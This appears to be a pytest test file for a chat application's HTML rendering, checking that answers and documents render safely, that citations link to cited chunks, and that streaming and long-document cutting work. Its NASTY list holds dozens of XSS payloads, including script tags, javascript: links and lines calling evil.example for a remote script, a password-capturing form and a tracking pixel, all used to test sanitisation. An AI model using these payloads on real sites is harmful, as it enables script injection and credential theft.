"""Answers and documents as HTML: what a model writes can never run, and citations open what exists."""

from html.parser import HTMLParser

import pytest

from chat.models import Hit
from chat.rendering import DOCUMENT_MAX_CHARS, answer_html, document_html, part_around, split_blocks

NASTY = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href='javascript:alert(1)' onclick=alert(1) style='position:fixed'>x</a>",
    "<!-- <img src=x onerror=alert(1)> --> <!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](//evil.example/path)",
    "[click](/admin/logout/)",
    "[a [b](javascript:alert(1)) c](javascript:alert(2))",
    "[x](https://ok.example 'title\" onmouseover=\"alert(1)')",
    "[1]: javascript:alert(1)\n\n[1]",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![p](https://evil.example/pixel.png)",
    "![p](data:image/svg+xml;base64,PHN2Zy8+)",
    "![<script>alert(1)</script>](x)",
    "```html\n<script>alert(1)</script>",
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onload=alert(1)\nprint('</code></pre><script>alert(1)</script>')\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <details open ontoggle=alert(1)>",
    "<div hx-get='/admin/' hx-trigger='load' sse-connect='/x'>x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "*" * 3000,
    "[" * 3000,
    "> " * 3000,
]

HARMLESS_TAGS = {
    *(
        "a",
        "blockquote",
        "br",
        "button",
        "code",
        "del",
        "div",
        "em",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
    ),
    *("pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
HARMLESS_ATTRIBUTES = {"class", "href", "title", "target", "rel", "type", "tabindex", "role", "aria-label", "start"}


class Reader(HTMLParser):
    """Reads HTML as a browser would, and keeps what could do harm."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]

    def handle_comment(self, data):
        self.tags.add("comment")


def make_hit(rank: int, **values: object) -> Hit:
    return Hit(**{"rank": rank, "document_id": 5, "chunk_id": 9, "document_title": "Backups", **values})


@pytest.mark.parametrize("text", NASTY)
@pytest.mark.parametrize("render", [lambda text: answer_html(text, (), 7), document_html], ids=["answer", "document"])
def test_nothing_that_is_written_can_run_or_call_out(render, text):
    page = Reader(render(text))

    assert page.tags <= HARMLESS_TAGS
    assert page.attributes <= HARMLESS_ATTRIBUTES
    assert set(page.links) <= {"https://ok.example"}


@pytest.mark.parametrize("text", NASTY)
def test_a_growing_text_is_as_safe_as_a_whole_one(text):
    finished, tail = split_blocks(text + "\n\nmore")

    assert finished + tail == text + "\n\nmore"
    assert Reader(answer_html(finished, (), 7)).tags <= HARMLESS_TAGS


def test_a_citation_links_to_the_chunk_in_its_document():
    html = answer_html("Seven are kept [1].", [make_hit(1)], 7)

    assert 'href="/documents/5/?turn=7&amp;chunk=9#chunk-9"' in html
    assert 'aria-label="Source 1: Backups"' in html
    assert ">[1]</a>." in html


def test_a_citation_of_a_document_that_is_gone_links_to_its_card():
    html = answer_html("It was so [2].", [make_hit(2, document_id=None, chunk_id=None)], 7)

    assert 'href="#turn-7-source-2"' in html


def test_only_hits_that_exist_become_links():
    html = answer_html("See [1][3] and [12].", [make_hit(1)], 7)

    assert html.count("<a ") == 1
    assert "[3] and [12]" in html


def test_citations_in_code_and_in_links_stay_text():
    html = answer_html("`row[1]` and [see [1]](https://ok.example)\n\n```\nrow[1]\n```", [make_hit(1)], 7)

    assert "citation" not in html


def test_a_title_in_a_citation_is_escaped():
    html = answer_html("So [1].", [make_hit(1, document_title='"><script>alert(1)</script>')], 7)

    assert "<script>" not in html


def test_links_open_in_a_new_tab_and_tell_nothing():
    html = answer_html("[x](https://ok.example)", (), 7)

    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_code_is_coloured_and_can_be_copied():
    html = answer_html("```python\nreturn None\n```", (), 7)

    assert '<span class="k">return</span>' in html
    assert '<button type="button" class="copy-code">' in html


def test_code_in_an_unknown_language_is_shown_plain():
    html = answer_html("```klingon\na < b\n```", (), 7)

    assert "a &lt; b" in html


def test_tables_keep_their_alignment_by_class():
    html = answer_html("| a | b |\n|:--|--:|\n| 1 | 2 |", (), 7)

    assert '<td class="align-right">2</td>' in html


def test_headings_of_an_answer_stand_below_those_of_the_page():
    assert "<h3>Title</h3>" in answer_html("# Title", (), 7)


@pytest.mark.parametrize(
    ("text", "finished", "tail"),
    [
        ("", "", ""),
        ("one line", "", "one line"),
        ("one\n\n", "", "one\n\n"),
        ("one\n\ntwo", "one\n\n", "two"),
        ("one\n\ntwo\n\nthree", "one\n\ntwo\n\n", "three"),
        ("- a\n\n  still a", "", "- a\n\n  still a"),
        ("- a\n  - of a\n- b", "- a\n  - of a\n", "- b"),
        ("Two:\n1. a\n2. b\n3", "Two:\n1. a\n", "2. b\n3"),
        ("# Title\nText", "# Title\n", "Text"),
        ("Text\n## Title", "Text\n", "## Title"),
        ("So:\n```\nx\n- y\n# z", "So:\n", "```\nx\n- y\n# z"),
        ("```\nx\n\ny", "", "```\nx\n\ny"),
        ("```\nx\n\ny\n```\n\nz", "```\nx\n\ny\n```\n\n", "z"),
        ("~~~~\n~~~\n\nstill code", "", "~~~~\n~~~\n\nstill code"),
        ("a\n\n```py\nb\n\nc", "a\n\n", "```py\nb\n\nc"),
    ],
)
def test_blocks_are_complete_where_the_next_one_begins_outside_a_fence(text, finished, tail):
    assert split_blocks(text) == (finished, tail)


DOCUMENT = "# Guide\n\nFirst sentence. Second sentence. Third.\n\n- a\n- b\n- c\n\n```\ncode\nmore\n```\n\nThe end."


def highlighted(piece: str) -> str:
    start = DOCUMENT.index(piece)
    return document_html(DOCUMENT, title="Guide", chunk_id=3, span=(start, start + len(piece)))


def test_a_chunk_within_a_paragraph_is_marked_alone():
    assert '<mark class="cited" id="chunk-3">Second sentence.</mark> Third.' in highlighted("Second sentence.")


def test_whole_blocks_of_a_chunk_are_marked():
    html = highlighted("- b\n- c")

    assert '<li class="cited" id="chunk-3">b</li>\n<li class="cited">c</li>' in html
    assert "<li>a</li>" in html


def test_a_chunk_that_begins_inside_a_fence_marks_the_whole_fence():
    html = highlighted("more\n```\n\nThe end.")

    assert 'class="code cited" id="chunk-3"' in html
    assert '<p class="cited">The end.</p>' in html


def test_a_chunk_over_several_blocks_has_its_id_once():
    html = highlighted("Third.\n\n- a\n- b\n- c\n\n```\ncode")

    assert html.count('id="chunk-3"') == 1
    assert '<ul class="cited">' in html


def test_a_first_heading_that_repeats_the_title_is_left_out():
    assert "Guide" not in document_html(DOCUMENT, title="Guide")
    assert "<h2>Guide</h2>" in document_html(DOCUMENT)


def test_a_cited_heading_that_is_left_out_hands_its_id_on():
    assert '<p id="chunk-3">First sentence.' in highlighted("# Guide")


def test_of_a_very_long_document_the_part_around_the_chunk_is_shown():
    text = "Ten chars\n\n" * 100_000
    start = text.index("Ten", 700_000)

    first, last = part_around(text, start)

    assert first < start < last
    assert last - first <= DOCUMENT_MAX_CHARS
    assert text[first:].startswith("Ten chars")
    assert text[:last].endswith("Ten chars")


@pytest.mark.parametrize("start", [0, 5, 999_999])
def test_a_text_without_blank_lines_is_cut_somewhere(start):
    first, last = part_around("x" * 1_000_000, start)

    assert first <= start < last <= first + DOCUMENT_MAX_CHARS


def test_a_document_of_usual_size_is_shown_whole():
    assert part_around(DOCUMENT, 20) == (0, len(DOCUMENT))
